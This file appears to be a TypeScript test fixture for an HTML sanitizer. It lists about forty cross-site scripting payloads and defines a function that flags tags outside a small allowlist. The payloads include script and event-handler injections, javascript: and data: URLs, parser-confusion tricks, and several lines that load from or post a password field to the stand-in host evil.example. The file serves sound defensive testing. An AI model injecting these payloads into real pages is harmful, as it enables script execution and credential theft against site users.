/** Texts of attackers, which must not run or load anything anywhere. */
export const htmlPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<p onclick="alert(1)" style="position:fixed">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x" onmouseover="alert(1)" target="_top">x</a>',
  '<a href="https://x&quot; onmouseover=&quot;alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><script>alert(1)</script></iframe>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><script>alert(1)</script>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=password><button>x</button></form>',
  '<object data=//evil.example></object><embed src=//evil.example>',
  '<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p><a href="https://x">'.repeat(50).concat('<script>alert(1)</script>'),
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

const allowedTag = /^<(?:\/?(?:p|strong|em|u|s|ul|ol|li)|br \/|\/a|a|a href="(?:https?:|mailto:)[^"<>]*")>$/;

/**
 * Finds tags of a stored text outside of the allowed set, and anything else that a parser could read as
 * markup.
 */
export function unsafeMarkup(stored: string): string[] {
  const tags = [...stored.matchAll(/<[^>]*>/g)].map(([tag]) => tag);
  const rest = stored.replace(/<[^>]*>/g, '').match(/[<>]/g) ?? [];
  return [...tags.filter((tag) => !allowedTag.test(tag)), ...rest];
}
